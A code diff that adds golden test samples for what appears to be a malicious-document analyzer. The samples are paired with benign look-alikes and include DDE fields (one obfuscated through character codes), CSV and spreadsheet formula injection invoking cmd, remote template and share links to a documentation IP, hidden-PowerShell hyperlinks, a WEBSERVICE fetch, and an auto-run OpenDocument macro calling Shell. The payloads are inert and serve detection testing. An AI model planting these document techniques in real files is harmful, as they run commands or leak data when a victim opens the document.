@@ -362,6 +362,29 @@ def relation(kind: str, target: str, mode: str = "External") -> bytes:
     return f'<?xml version="1.0"?><Relationships><Relationship Id="a" Type="{base}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'.encode()
 
 
+def odf(parts: dict[str, bytes]) -> bytes:
+    """An OpenDocument text."""
+    kind = b"application/vnd.oasis.opendocument.text"
+    return zipped({"mimetype": kind, "META-INF/manifest.xml": b"<manifest:manifest/>", **parts})
+
+
+_LISTENER = b'<office:scripts><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:scripts>'
+_BASIC = b'<script:module script:name="Module1" script:language="StarBasic">Sub Main\n Shell(&quot;cmd.exe /c echo&quot;, 0)\nEnd Sub</script:module>'
+
+
+def _complex(*instruction: bytes) -> bytes:
+    """A field of runs; what is no text of it is taken as it is."""
+    runs = b"".join(
+        i if i.startswith(b"<") else b"<w:instrText>" + i + b"</w:instrText>" for i in instruction
+    )
+    return b'<w:fldChar w:fldCharType="begin"/>' + runs + b'<w:fldChar w:fldCharType="end"/>'
+
+
+_FIELD_SPELLED = _complex(b' SET c "', _complex(b" QUOTE 99 109 100 32 47 107 "), b'" ') + _complex(
+    b" DDE ", _complex(b" REF c ")
+)
+
+
 #: By analyzer: name of the golden file, what the analyzer is told the name is, content.
 GOLDEN: dict[str, list[tuple[str, str, bytes]]] = {
     "zip": [
@@ -430,11 +453,27 @@ GOLDEN: dict[str, list[tuple[str, str, bytes]]] = {
         ("narrow", "WordDocument", b"\xec\xa5" + bytes(30) + b"Text\r\x13 DDE Excel a.xls R1C1 \x14!\x15"),
         ("harmless", "WordDocument", b"\xec\xa5" + bytes(30) + b"DDEAUTO is a word\r\x13 PAGE \x14" + b"1\x15"),
         ("formula", "m.xml", b"<?xml version='1.0'?><Workbook xmlns='urn:schemas-microsoft-com:office:spreadsheet'><Cell ss:Formula=\"=cmd|'/k echo'!A1\"/></Workbook>"),
+        ("table", "m.csv", b'\xef\xbb\xbf"x";"@SUM(1+1)*cmd|\' /C echo\'!A0"\n'),
+        ("honest_table", "m.csv", b"name,pipes|bars!,@home\n-1,2,=1+1\n"),
         ("sum", "m.xml", b"<?xml version='1.0'?><Workbook xmlns='urn:schemas-microsoft-com:office:spreadsheet'><Cell ss:Formula=\"=SUM(A1:A2)\"/></Workbook>"),
     ],
     "ooxml": [
         ("template", "settings.xml.rels", relation("attachedTemplate", "http://192.0.2.7/t.dotm")),
         ("own_template", "settings.xml.rels", relation("attachedTemplate", "Normal.dotm")),
+        ("template_of_this_machine", "settings.xml.rels", relation("attachedTemplate", "file:///C:\\Users\\a\\Firm.dotx")),
+        ("template_of_the_house", "settings.xml.rels", relation("attachedTemplate", "file:///\\\\files\\templates\\Firm.dotx")),
+        ("template_of_a_share", "settings.xml.rels", relation("attachedTemplate", "file:///\\\\192.0.2.7\\s\\t.dotm")),
+        ("link_to_program", "slide1.xml.rels", relation("hyperlink", "powershell%20-NoP%20-W%20Hidden")),
+        ("link_to_share", "document.xml.rels", relation("hyperlink", "\\\\192.0.2.7@80\\dav\\a.lnk")),
+        ("link_about_powershell", "document.xml.rels", relation("hyperlink", "https://learn.example/powershell -command")),
+        ("slide_starts_program", "slide1.xml", b"<p:sld><a:hlinkMouseOver r:id='r1' action='ppaction://program'/><a:hlinkClick r:id='r2' action='ppaction://hlinksldjump'/></p:sld>"),
+        ("dde_spelled", "document.xml", b"<w:document>" + _FIELD_SPELLED + b"</w:document>"),
+        ("dde_of_another_prefix", "document.xml", b'<ns0:document><ns0:fldSimple ns0:instr="DDEAUTO cmd /k"/></ns0:document>'),
+        ("dde_formula", "sheet1.xml", b"<worksheet><c><f>SUM(1,2)*cmd|'/k echo'!A0</f></c></worksheet>"),
+        ("formula_with_text", "sheet1.xml", b"<worksheet><c><f>IF(A1=&quot;a|b!c&quot;,&quot;cmd|x!y&quot;,2)</f></c></worksheet>"),
+        ("formula_fetches", "sheet1.xml", b"<worksheet><c><f>_xlfn.WEBSERVICE(&quot;http://192.0.2.7/&quot;&amp;A2)</f></c></worksheet>"),
+        ("picture_of_a_share", "document.xml", b'<w:document><w:fldSimple w:instr="INCLUDEPICTURE \\\\192.0.2.7\\s\\a.png \\d"/></w:document>'),
+        ("picture_of_a_page", "document.xml", b'<w:document><w:fldSimple w:instr="INCLUDEPICTURE &quot;https://www.example/a.png&quot;"/></w:document>'),
         ("page", "document.xml.rels", relation("oleObject", "mhtml:http://192.0.2.7/a.html!x-usc:http://192.0.2.7/a.html")),
         ("linked_object", "document.xml.rels", relation("oleObject", "file:///C:\\a.docx")),
         ("hyperlink", "document.xml.rels", relation("hyperlink", "https://www.example/")),
@@ -442,6 +481,11 @@ GOLDEN: dict[str, list[tuple[str, str, bytes]]] = {
         ("dde_in_pieces", "document.xml", b"<?xml version='1.0'?><w:document>" + _FIELD_PARTS + b"</w:document>"),
         ("page_number", "document.xml", b"<?xml version='1.0'?><w:document><w:fldSimple w:instr=\" PAGE \"/><w:t>DDEAUTO is a word</w:t></w:document>"),
         ("dde_link", "externalLink1.xml", b"<?xml version='1.0'?><externalLink><ddeLink ddeService='cmd' ddeTopic='/k echo'/></externalLink>"),
+    ],
+    "odf_macro": [
+        ("starts_by_itself", "m.odt", odf({"content.xml": _LISTENER, "Basic/Standard/Module1.xml": _BASIC, "Scripts/python/a.py": b"import os\nos.system('echo')\n"})),
+        ("by_a_button", "m.odt", odf({"content.xml": _LISTENER.replace(b"dom:load", b"dom:click"), "Basic/Standard/Module1.xml": _BASIC})),
+        ("plain", "m.odt", odf({"content.xml": b"<office:document-content/>"})),
     ],
     "flat_opc": [("macro", "m.xml", flat({"word/vbaProject.bin": STORAGE})), ("plain", "m.xml", flat({"a.bin": TEXT}))],
     "encrypted_office": [("default_password", "m.docx", encrypted(LARGE, "VelvetSweatshop")), ("locked", "m.docx", encrypted(LARGE, "no word that anybody tries")), ("not_encrypted", "m.doc", cfb({"WordDocument": bytes(600), "1Table": bytes(600)}))],
